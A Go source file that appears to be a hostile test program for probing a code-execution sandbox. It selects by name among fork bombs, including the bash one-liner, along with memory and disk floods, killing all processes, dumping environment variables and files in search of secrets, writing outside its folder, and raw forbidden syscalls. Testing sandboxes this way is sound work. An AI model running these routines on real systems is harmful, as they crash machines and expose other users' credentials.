// Hostile program in Go. The first line of standard input names what to try, the others are its arguments.
package main

import (
	"bufio"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

const megabyte = 1 << 20

func honest(_ []string) { fmt.Println("still here") }

// A forked child has one thread only, so it may do nothing but system calls.
func fork() uintptr {
	process, _, failure := syscall.RawSyscall6(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
	if failure != 0 {
		return ^uintptr(0)
	}
	return process
}

func forkBomb(_ []string) {
	runtime.LockOSThread()
	for {
		fork()
	}
}

func shellForkBomb(_ []string) {
	syscall.Exec("/bin/bash", []string{"bash", "-c", ":(){ :|:& };:; sleep 600"}, os.Environ())
}

func threadBomb(_ []string) {
	for {
		go func() {
			runtime.LockOSThread()
			syscall.Select(0, nil, nil, nil, &syscall.Timeval{Sec: 600})
		}()
	}
}

func flood(file *os.File) {
	text := make([]byte, 65536)
	for {
		if _, failure := file.Write(text); failure != nil {
			os.Exit(1)
		}
	}
}

func fill(path string) bool {
	file, failure := os.Create(path)
	text := make([]byte, megabyte)
	for turn := 0; failure == nil && turn < 10240; turn++ {
		_, failure = file.Write(text)
	}
	return failure == nil
}

func hugeFile(_ []string) {
	if !fill("big") {
		os.Exit(1)
	}
}

func fillsEveryFolder(folders []string) {
	for _, folder := range folders {
		fill(folder + "/big")
	}
	os.Exit(1)
}

func manyFiles(_ []string) {
	for number := 0; number < 300000; number++ {
		file, failure := os.Create(strconv.Itoa(number))
		if failure != nil {
			os.Exit(1)
		}
		file.Close()
	}
}

func take(size int, value byte) []byte {
	held := make([]byte, size)
	for at := range held {
		held[at] = value
	}
	return held
}

func memoryHog(_ []string) {
	var held [][]byte
	for {
		held = append(held, take(10*megabyte, byte(len(held))))
	}
}

// Go's runtime can't go on in a forked child, so the children are this program again.
func memoryOfChildren(_ []string) {
	for child := 0; child < 8; child++ {
		command := exec.Command("/proc/self/exe")
		command.Stdin = strings.NewReader("a_child_with_memory\n")
		command.Start()
	}
	syscall.Wait4(-1, nil, 0, nil)
	time.Sleep(2 * time.Second)
}

func childWithMemory(_ []string) {
	held := take(100*megabyte, 1)
	time.Sleep(2 * time.Second)
	runtime.KeepAlive(held)
}

func deafLoop(_ []string) {
	signal.Ignore()
	for number := syscall.Signal(1); number < 65; number++ {
		signal.Ignore(number)
	}
	none := ^uint64(0)
	syscall.Setrlimit(0, &syscall.Rlimit{Cur: none, Max: none})
	for turn := 0; ; turn++ {
	}
}

func sleeper(_ []string) { time.Sleep(10 * time.Minute) }

func stopped(_ []string) {
	syscall.Kill(0, syscall.SIGSTOP)
	time.Sleep(10 * time.Minute)
}

func daemon(_ []string) {
	runtime.LockOSThread()
	if fork() == 0 {
		syscall.RawSyscall(syscall.SYS_SETSID, 0, 0, 0)
		if fork() != 0 {
			syscall.RawSyscall(syscall.SYS_EXIT_GROUP, 0, 0, 0)
		}
		for {
			pause := syscall.Timespec{Sec: 1}
			syscall.RawSyscall(syscall.SYS_NANOSLEEP, uintptr(unsafe.Pointer(&pause)), 0, 0)
		}
	}
	fmt.Println("parent is done")
}

func killsEverything(_ []string) {
	least := syscall.Rlimit{Cur: 1, Max: 1}
	for _, kind := range []uintptr{0, 7} {
		syscall.RawSyscall6(syscall.SYS_PRLIMIT64, 1, kind, uintptr(unsafe.Pointer(&least)), 0, 0, 0)
	}
	syscall.Setpriority(0, 1, 19)
	for _, process := range []int{-1, 1, os.Getppid()} {
		syscall.Kill(process, syscall.SIGKILL)
	}
}

func connects(targets []string) {
	for _, target := range targets {
		parts := strings.Fields(target)
		address := parts[1]
		if parts[0] != "unix" {
			address = net.JoinHostPort(parts[1], parts[2])
		}
		made, failure := net.DialTimeout(parts[0], address, 300*time.Millisecond)
		if failure != nil {
			continue
		}
		made.Write([]byte("x"))
		if parts[0] != "udp" {
			fmt.Println("connected", target)
		}
	}
}

func show(path string) {
	about, failure := os.Lstat(path)
	if failure != nil || !about.Mode().IsRegular() {
		return
	}
	file, failure := os.Open(path)
	if failure != nil {
		return
	}
	defer file.Close()
	text := make([]byte, 65536)
	size, _ := file.Read(text)
	fmt.Printf("%s: %s\n", path, text[:max(size, 0)])
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}

func walk(root string) {
	filepath.Walk(root, func(path string, _ os.FileInfo, _ error) error {
		show(path)
		return nil
	})
}

func secrets(paths []string) {
	fmt.Println(strings.Join(os.Environ(), "\n"))
	processes, _ := filepath.Glob("/proc/[0-9]*")
	for _, process := range processes {
		show(process + "/environ")
		show(process + "/cmdline")
	}
	for _, path := range paths {
		if _, failure := os.Lstat(path); failure == nil {
			fmt.Println("exists", path)
		}
		show(path)
	}
	skipped := " bin boot lib lib32 lib64 libx32 opt proc sbin sys usr "
	roots, _ := os.ReadDir("/")
	for _, root := range roots {
		if !strings.Contains(skipped, " "+root.Name()+" ") {
			walk("/" + root.Name())
		}
	}
	for _, root := range []string{"/opt/runner", "/proc/1/cwd/.", "/proc/1/root/tmp"} {
		walk(root)
	}
	fmt.Println("end of search")
}

func writesOutside(words []string) {
	mark := words[0]
	for _, word := range words[1:] {
		kind, path, _ := strings.Cut(word, " ")
		flags := os.O_WRONLY | os.O_CREATE | os.O_APPEND
		if kind == "folder" {
			path += "/" + mark
		} else if kind == "open" {
			flags = os.O_WRONLY
		}
		file, failure := os.OpenFile(path, flags, 0666)
		if failure == nil && kind != "open" {
			_, failure = file.WriteString(mark)
		}
		if failure == nil {
			fmt.Println("wrote", path)
		}
		if kind == "file" {
			os.Remove(path)
		}
	}
}

func forbiddenCalls(calls []string) {
	runtime.LockOSThread()
	for _, call := range calls {
		parts := strings.Fields(call)
		var values [7]uintptr
		var texts [7][]byte
		for at, word := range parts[1:] {
			if word[0] == 'x' {
				texts[at] = make([]byte, 256)
				hex.Decode(texts[at], []byte(word[1:]))
				values[at] = uintptr(unsafe.Pointer(&texts[at][0]))
			} else {
				number, _ := strconv.ParseInt(word, 10, 64)
				values[at] = uintptr(number)
			}
		}
		v := values
		_, _, failure := syscall.RawSyscall6(v[0], v[1], v[2], v[3], v[4], v[5], v[6])
		runtime.KeepAlive(texts)
		if failure != 0 {
			fmt.Println("refused", parts[0], int(failure))
		} else {
			fmt.Println("allowed", parts[0])
		}
	}
	fmt.Println("end of calls")
}

func leavesTraps(paths []string) {
	here, _ := os.Getwd()
	for number, path := range paths {
		os.Symlink(path, fmt.Sprintf("link%d", number))
	}
	syscall.Mkfifo("pipe", 0666)
	os.Create("holes")
	os.Truncate("holes", 1<<40)
	os.MkdirAll("closed/inner", 0777)
	os.Chmod("closed", 0)
	for level := 0; level < 400; level++ {
		os.Mkdir("deep", 0777)
		os.Chdir("deep")
	}
	os.Chdir(here)
	exec.Command("/bin/sh", "-c", "cp -r /proc/self/fdinfo /dev/shm/; mkfifo /tmp/pipe").Run()
	fmt.Println("traps are set")
}

func runsPython(lines []string) {
	python := "/opt/python/bin/python3"
	syscall.Exec(python, []string{python, "-I", "-S", "-B", "-c", strings.Join(lines, "\n")}, os.Environ())
}

func main() {
	attacks := map[string]func([]string){
		"honest": honest, "fork_bomb": forkBomb, "shell_fork_bomb": shellForkBomb, "thread_bomb": threadBomb,
		"output_flood": func(_ []string) { flood(os.Stdout) }, "error_flood": func(_ []string) { flood(os.Stderr) },
		"huge_file": hugeFile, "fills_every_folder": fillsEveryFolder, "many_files": manyFiles,
		"memory_hog": memoryHog, "memory_of_children": memoryOfChildren, "a_child_with_memory": childWithMemory,
		"deaf_loop": deafLoop, "sleeper": sleeper, "stopped": stopped, "daemon": daemon,
		"kills_everything": killsEverything, "connects": connects, "secrets": secrets,
		"writes_outside": writesOutside, "forbidden_calls": forbiddenCalls, "leaves_traps": leavesTraps,
		"runs_python": runsPython,
	}
	var lines []string
	for scanner := bufio.NewScanner(os.Stdin); scanner.Scan(); {
		lines = append(lines, scanner.Text())
	}
	attacks[lines[0]](lines[1:])
}
